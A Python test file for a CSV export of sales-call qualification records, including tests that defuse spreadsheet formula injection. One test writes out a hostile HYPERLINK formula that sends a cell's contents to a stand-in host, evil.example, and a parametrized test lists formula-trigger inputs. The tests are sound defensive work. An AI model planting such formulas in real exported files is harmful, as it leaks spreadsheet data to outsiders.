"""The CSV has a row a call, and nothing in it that a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from invented import absent, budget, evidence, failure, form, record, stated

from extractor.record import AnyRecord
from extractor.reports.sheet import as_csv, guarded


def rows(*records: AnyRecord) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(records))))


def test_the_columns_and_cells_of_a_call() -> None:
    assert rows(record(warnings=["take care", "twice"])) == [
        {
            "call_id": "a01",
            "score": "60",
            "tier": "warm",
            "budget": "50k_100k",
            "budget_value": "USD 70,000-80,000 a year",
            "budget_quote": "What I have approved for this year is seventy",
            "authority": "department_head",
            "authority_role": "influencer",
            "authority_value": "Tom Okafor, VP of Operations, influencer; decided by Renate Vogt",
            "authority_quote": "I recommend, but Renate Vogt signs it",
            "need": "low",
            "need_value": "orders are typed twice; no view of stock",
            "need_quote": "two people type every order twice | nobody sees the stock",
            "timeline": "1_3_months",
            "timeline_value": "2026-06-01 (end of May)",
            "timeline_quote": "so end of May it is",
            "missing": "",
            "warnings": "take care; twice",
            "error": "",
        }
    ]


def test_what_is_absent_and_what_failed() -> None:
    missing, failed = rows(record(budget=absent(30), timeline=absent(20)), failure())
    assert (missing["budget"], missing["budget_value"], missing["budget_quote"]) == ("", "", "")
    assert missing["missing"] == "budget, timeline"
    assert failed["error"] == "calls/z09.txt: no turns in it. Check the file with `bant read`."
    assert (failed["call_id"], failed["score"], failed["tier"]) == ("z09", "", "")


def test_a_field_without_options_has_its_text() -> None:
    place = stated(None, 5, 5, {"text": "Leeds"}, "we sit in Leeds")
    cells = rows(record(place=place))[0]
    assert (cells["place"], cells["place_value"]) == ("Leeds", "Leeds")
    unranked = stated(
        None, 0, 25, {"contact": "Ann", "role": "end_user", "decision_makers": []}, "I only use it"
    )
    cells = rows(record(authority=unranked))[0]
    assert (cells["authority"], cells["authority_role"], cells["authority_value"]) == (
        "",
        "end_user",
        "Ann, end user",
    )


def test_only_the_first_quotes_stand_in_a_row() -> None:
    many = budget().model_copy(update={"evidence": [evidence(f"quote {n}") for n in range(5)]})
    assert rows(record(budget=many))[0]["budget_quote"] == "quote 0 | quote 1 | quote 2"


def test_with_a_form_the_columns_are_the_forms() -> None:
    alone = as_csv([failure()]).splitlines()[0]
    assert alone == "call_id,score,tier,missing,warnings,error"
    with_form = as_csv([failure()], form()).splitlines()[0]
    assert with_form == as_csv([record()]).splitlines()[0]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("so;=1+1", "so;'=1+1"),
        ("50k-100k", "50k-100k"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_formulas_are_made_harmless(cell: str, safe: str) -> None:
    assert guarded(cell) == safe


def test_a_hostile_quote_is_harmless_in_the_file() -> None:
    hostile = '=HYPERLINK("https://evil.example?x="&A1,"click")'
    cells = rows(record(budget=budget(hostile)))[0]
    assert cells["budget_quote"] == f"'{hostile}"


@given(st.text(max_size=30))
@settings(deadline=None)
def test_no_cell_begins_a_formula(text: str) -> None:
    made = record(call_id=f"a{text}", budget=budget(text), warnings=[text])
    for name, cell in rows(made)[0].items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name
